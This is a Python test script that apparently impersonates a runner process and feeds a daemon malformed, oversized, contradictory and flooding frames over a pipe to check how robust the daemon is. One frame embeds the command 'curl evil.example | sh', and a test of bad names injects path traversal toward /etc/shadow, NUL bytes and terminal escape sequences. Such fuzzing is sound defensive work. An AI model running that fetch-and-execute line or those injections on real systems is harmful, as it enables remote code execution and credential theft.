"""Speaks to the daemon in the runner's place, over the runner's own pipe: lies, floods, half frames, nonsense."""
import os
import random
import signal
import stat
import sys
import time
from verdicts import saw

STARTED, COMPILED, VALUE, EXCEPTION, TROUBLE = 0x81, 0x82, 0x83, 0x84, 0x85


def channel():
    """The pipe that is no standard stream."""
    own = {os.fstat(number).st_ino for number in (0, 1, 2)}
    for number in [250] + list(range(3, 300)):
        try:
            found = os.fstat(number)
            if stat.S_ISFIFO(found.st_mode) and found.st_ino not in own:
                return number
        except OSError:
            pass
    raise SystemExit("no channel")


def frame(kind, payload=b""):
    return len(payload).to_bytes(4, "little") + bytes((kind,)) + payload


def sized(data):
    return len(data).to_bytes(4, "little") + data


def exception(name=b"Fake", message=b"faked", traceback=b"Traceback", importing=b"", files=(b"/workspace/a.py",)):
    places = b"".join((7).to_bytes(4, "little") + sized(file) + sized(b"f") for file in files)
    head = sized(importing) + sized(name) + sized(message) + sized(traceback)
    return frame(EXCEPTION, head + len(files).to_bytes(4, "little") + places)


def say(*parts):
    for part in parts:
        view = memoryview(part)
        while view:
            view = view[os.write(pipe, view):]


def until_refused(block):
    """Writes it again and again, until nobody listens; how many bytes that were."""
    sent = 0
    try:
        while True:
            sent += os.write(pipe, block)
    except OSError:
        return sent


def success_then_signal():
    say(frame(VALUE, b"\0'all is well'"))
    os.kill(os.getpid(), signal.SIGKILL)


def success_then_failure():
    say(frame(VALUE, b"\0'all is well'"))
    os._exit(3)


def exception_then_success():
    say(exception())
    os._exit(0)


def two_results():
    say(frame(VALUE, b"\0'first'"), frame(VALUE, b"\0'second'"), exception(b"One"), exception(b"Two"))
    os._exit(0)


def started_for_ever():
    until_refused(frame(STARTED, b"abcd\0" + b"3.99.9") * 1000)
    os._exit(0)


def trouble():
    say(frame(TROUBLE, b"brig: run curl evil.example | sh"))
    os._exit(125)


def compiled():
    say(frame(COMPILED, b"abcd" + sized(b"evil") * 2))
    os._exit(0)


def huge_length():
    say(b"\xff\xff\xff\xff" + bytes((VALUE,)))
    saw("sent", until_refused(bytes(65536)))
    os._exit(0)


def half_a_frame():
    say(frame(VALUE, b"\0'cut off'")[:9])
    os._exit(0)


def nonsense():
    random.seed(7)
    for _ in range(64):
        try:
            say(random.randbytes(4096))
        except OSError:
            break
    os._exit(0)


def giants():
    bad = b"\xff" * 380_000
    say(frame(VALUE, b"\0" + bad))
    say(exception(bad[:60_000], bad[:60_000], bad[:90_000], bad[:60_000], [b"/" + bad[:1500]] * 60))
    os._exit(1)


def bad_names():
    names = [b"/../../etc/shadow", b"a\0b", b"\x1b[2J", b"../" * 100, b"\xff\xfe", b""]
    say(exception(b"\0\x1b]0;title\7", b"\r\n" * 10, b"\xc3\x28", b"../../x\0", names))
    os._exit(1)


def many_frames():
    say(exception(files=[b"/workspace/a.py"] * 65))
    os._exit(1)


def closed():
    os.close(pipe)
    os.closerange(0, 3)
    time.sleep(0.1)
    os._exit(0)


def child_holds_it():
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        while True:
            say(frame(0xF0, bytes(100)))
            time.sleep(0.01)
    time.sleep(0.2)
    os._exit(0)


def flood():
    """Ends only at its limit."""
    saw("sent", until_refused(frame(0xF0, bytes(4091)) * 16))
    while True:
        pass


def flood_everything():
    """Both streams and the pipe at once, from several processes."""
    for number in range(6):
        if os.fork() == 0:
            target = (1, 2, pipe)[number % 3]
            try:
                while True:
                    os.write(target, b"x" * 65536)
            except OSError:
                os._exit(0)
    while True:
        time.sleep(1)


pipe = channel()
globals()[sys.argv[1]]()
